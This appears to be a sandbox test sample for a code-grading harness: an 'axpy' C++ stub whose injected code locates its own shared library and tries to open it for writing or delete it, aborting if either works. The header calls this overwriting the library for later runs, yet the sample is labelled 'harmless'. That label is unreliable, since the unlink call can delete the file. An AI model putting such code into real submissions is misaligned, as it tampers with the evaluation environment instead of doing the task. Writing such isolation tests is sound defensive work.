// Overwrites the library that it was loaded from, for those that come after it.
// problem: 03_dense_la_axpy serial
// verdict: harmless
#include <dlfcn.h>
#include <fcntl.h>
#include <unistd.h>
void axpy(double alpha, std::vector<double> const& x, std::vector<double> const& y, std::vector<double> &z) {
    Dl_info info;
    if (dladdr(reinterpret_cast<void*>(&axpy), &info) && (open(info.dli_fname, O_RDWR) >= 0 || unlink(info.dli_fname) == 0)) abort();
    BODY
}
